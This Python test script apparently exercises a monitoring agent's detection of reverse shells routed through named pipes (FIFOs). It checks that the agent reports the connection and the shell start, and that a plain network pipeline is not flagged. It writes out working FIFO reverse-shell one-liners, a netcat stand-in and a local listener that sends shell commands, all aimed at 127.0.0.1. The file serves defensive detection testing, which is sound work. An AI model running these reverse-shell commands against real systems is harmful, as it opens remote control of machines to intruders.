#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A shell that talks to the network through a FIFO and another program is told, whichever of them begins first."""
import os
import socket
import subprocess
import sys
import tempfile
import threading

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import lib_agent  # noqa: E402

if os.geteuid():
    lib_agent.skip("needs root")
CONNECTED = "Shell's pipe was connected to the network"
STARTED = "Shell talks to the network through a pipe"
# What nc does, with a pause where the test wants one: connects, then passes on both ways until the peer closes.
NETCAT = """
import os, socket, sys, threading
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])))
if len(sys.argv) > 2:
    open(sys.argv[2], "w").close()
def out():
    for b in iter(lambda: os.read(0, 4096), b""):
        s.sendall(b)
threading.Thread(target=out, daemon=True).start()
for b in iter(lambda: s.recv(4096), b""):
    os.write(1, b)
"""
results = lib_agent.Results()


def attacker(server, said):
    """The other end: has the shell say who it is, then hangs up."""
    peer, _ = server.accept()
    peer.sendall(b"echo I am $((40 + 2))\nexit\n")
    for data in iter(lambda: peer.recv(4096), b""):
        said.append(data)
        if b"I am 42" in b"".join(said):
            break
    peer.close()


def play(script, folder):
    server = socket.create_server(("127.0.0.1", 0))
    port, said = server.getsockname()[1], []
    thread = threading.Thread(target=attacker, args=(server, said))
    thread.start()
    subprocess.run(["/bin/sh", "-c", script, "sh", sys.executable, NETCAT, str(port)], cwd=folder, stdin=subprocess.DEVNULL,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False, timeout=lib_agent.DEADLINE)
    thread.join(lib_agent.DEADLINE)
    server.close()
    return port, b"".join(said)


with lib_agent.Agent() as agent, tempfile.TemporaryDirectory(prefix="noroshi-pipes.") as folder:
    port, said = play('mkfifo f; cat f | /bin/sh -i 2>&1 | "$1" -c "$2" "$3" >f', folder)
    results.add(None if b"I am 42" in said else said, "a reverse shell by a FIFO works")
    found = lib_agent.await_that(CONNECTED, lambda: agent.findings(CONNECTED))
    results.add(not found, "it is told when the connection is made")
    if found:
        output = found[0]["output"]
        results.add(None if "to 127.0.0.1:" in output and ":%d" % port in output and " sh " in output else output, "with both names and the address")
    # the connection first: the shell waits for it
    port, said = play('mkfifo g; exec 3<>g; (until test -e there; do sleep 0.05; done; exec /bin/sh -i <g 2>&1 3>&-) | '
                      '"$1" -c "$2" "$3" there >g 3>&-', folder)
    results.add(None if b"I am 42" in said else said, "another one, in which the shell comes last")
    found = lib_agent.await_that(STARTED, lambda: agent.findings(STARTED))
    results.add(not found, "it is told when the shell starts")
    if found:
        results.add(None if "(127.0.0.1) through (python" in found[0]["output"] else found[0]["output"],
                    "with the address behind the pipe")
    before = len(agent.findings(CONNECTED)) + len(agent.findings(STARTED))
    server = socket.create_server(("127.0.0.1", 0))
    subprocess.run(["/bin/sh", "-c", 'sh -c "echo quiet" | "$1" -c "%s" "$2" | cat' %
                    "import socket, sys; socket.create_connection(('127.0.0.1', int(sys.argv[1])))", "sh", sys.executable,
                    str(server.getsockname()[1])], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, check=True)
    server.close()
    agent.stop()
    after = len(agent.findings(CONNECTED)) + len(agent.findings(STARTED))
    results.add(None if before == after else agent.findings()[-1], "a pipeline into the network and on is no shell's conversation")
results.end()
